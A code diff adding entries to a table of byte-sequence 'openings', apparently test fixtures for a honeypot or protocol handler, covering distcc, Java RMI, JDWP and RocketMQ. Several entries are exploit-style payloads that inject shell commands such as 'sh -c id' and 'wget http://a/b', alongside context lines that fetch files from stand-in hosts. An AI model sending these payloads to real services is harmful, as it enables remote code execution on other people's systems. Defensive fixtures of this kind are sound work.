@@ -63,6 +63,10 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
     "backdoor": (b"PW", b"D1", b"TID", b"SFT059\0MZ", b"MZ12345"),
     "catchall": (b"cd /tmp || cd /var/run; ".ljust(70), b"echo a > b\n", b"wget http://198.51.100.7/x\n"),
     "cmd": (b"echo a>b& tftp", b" -i 198.51.100.7 GET x\r\n", b"ver\n"),
+    "distcc": (
+        b"DIST0000", b"0001ARGC00000003", b"ARGV00000002sh", b"ARGV00000002-cARGV00000004id;", b"x", b"DOTI00000009abc",
+        b"defghi", b"DIST00000001ARGC00000003ARGV00000002shARGV00000002-cARGV0000000fwget http://a/bDOTI00000000",
+    ),
     "dns": (b"\0\x1e\0\x06\x01", b"\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03\0\x0c", b"\0\0\x10"),
     "docker": (
         b"POST /images/create?fromImage=alpine HTTP/1.0\r\nConnection: keep-alive\r\n\r\n",
@@ -97,6 +101,13 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"\1\1\0\2\0\0\0\1\1\x47\0\1a",
         b"\0\1b\3FoomaticRIPCommandLine: \"", b'wget http://a/b; id"    ',
     ),
+    "java": (
+        b"JRMI\0\2", b"K", b"\0\1a\0\0", b"\0\0", b"P\xac\xed\0\5\x77\x22" + bytes(19), b"\0\0\0\1" + bytes(11),
+    ),
+    "jdwp": (
+        b"JDWP-Hand", b"shake", b"\0\0\0\x0b\0\0\0\1\0\1", b"\4", b"\0\0\0\x10\0\0\0\2\0\1\x0b\0\0\0\1", b"a",
+        b"\0\0\0\x11\0\0\0\3\0\x0f\1\2\2\0\0\0\0", b"\0\0\0\x0b\0\0\0\4\0\1\x09",
+    ),
     "jenkins": (
         b"POST /scriptText HTTP/1.1\r\nHost: a\r\nContent-Length: 36\r\n\r\n", b"script='wget",
         b"%20http://a/b'.execute()", b"GET /script HTTP/1.1\r\n\r\n",
@@ -129,6 +140,10 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
     "printer": (
         b"\x1b%-12345X@PJL ", b"INFO ID\r\n", b'@PJL FSDOWNLOAD FORMAT:BINARY SIZE=9 NAME="0:/a"\r\nabc', b"defghi",
         b"@PJL ENTER LANGUAGE=PCL\r\n", b"\x1bE\x1b%-12",
+    ),
+    "rocketmq": (
+        b"\0\0\0\x20\0\0", b'\0\x0b{"code":26}', b"x" * 9, b"x" * 8, b"\0\0\0\x37\0\0\0\x0b", b'{"code":25}',
+        b"rocketmqHome=", b";wget http://a/b   #\nabcdefg",
     ),
     "rdp": (
         rdp_client.request(b"mstshash=a", 3)[:9], rdp_client.request(b"mstshash=a", 3)[9:],
